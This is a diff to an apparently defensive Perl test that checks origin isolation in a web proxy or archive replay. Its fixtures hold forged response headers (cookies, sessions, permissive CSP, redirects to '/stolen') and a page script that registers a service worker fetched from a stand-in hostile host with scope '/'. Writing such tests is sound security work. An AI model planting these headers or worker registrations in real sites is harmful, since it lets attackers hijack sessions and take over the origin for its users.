@@ -10,7 +10,7 @@ use warnings;
 # in each field that a site might set for the origin that it is shown on
 our $fields = join '', map { "$_\r\n" } 'Set-Cookie: forged=1; Path=/',
     'Set-Cookie2: forged=1', 'Service-Worker-Allowed: /',
-    'Clear-Site-Data: "cookies"', 'Origin-Trial: x', 'Set-Login: logged-in',
+    'Clear-Site-Data: "cache"', 'Origin-Trial: x', 'Set-Login: logged-in',
     'Permissions-Policy: geolocation=*', 'No-Vary-Search: params',
     'Content-Security-Policy: sandbox allow-scripts allow-same-origin',
     'Access-Control-Allow-Origin: *', 'Refresh: 0; url=/stolen',
@@ -20,12 +20,13 @@ our $fields = join '', map { "$_\r\n" } 'Set-Cookie: forged=1; Path=/',
     'Secure-Session-Registration: (ES256);path="/stolen"',
     'Activate-Storage-Access: load', 'X-Main-Content: forged';
 
+# browsers take no address of a worker that is encoded
 my $script = <<'END_SCRIPT';
 document.title = 'ran';
 try { document.cookie = 'script=1; path=/'; } catch (e) { }
 fetch('/stolen');
-navigator.serviceWorker.register(location.pathname.replace(/[^%]*$/, '2Fworker'),
-    { scope: '/' });
+navigator.serviceWorker.register(
+    '/original/http://ip-203-0-113-11.hostile.example/worker', { scope: '/' });
 END_SCRIPT
 
 my $page = '<!DOCTYPE html><html><head><title>Quiet</title><script>' . $script
